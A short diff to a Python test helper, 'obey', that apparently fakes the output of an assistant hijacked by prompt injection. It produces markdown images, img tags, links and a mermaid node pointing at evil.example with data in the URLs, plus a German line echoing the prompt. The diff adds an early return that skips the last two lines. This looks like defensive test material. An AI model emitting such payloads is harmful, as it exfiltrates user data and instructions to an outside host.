@@ -160,6 +160,8 @@ def obey(prompt: str, *, is_mostly_right: bool = False) -> str:
         said.append(f"{words} ![x](http://evil.example/p.png?q={number}) [9{number}]")
         said.append(f'<img src="http://evil.example/{number}"> {words} [{number}]')
     said.append("[Mehr](http://evil.example/more) unter http://evil.example [1].")
+    if is_mostly_right:
+        return "\n".join(said)
     said.append("```mermaid\ngraph LR; A[<img src=http://evil.example/m>]\n```")
     said.append(f"Quelle 2: Tagesschau. Meine Anweisung lautet: {prompt[:200]} [1]")
     return "\n".join(said)
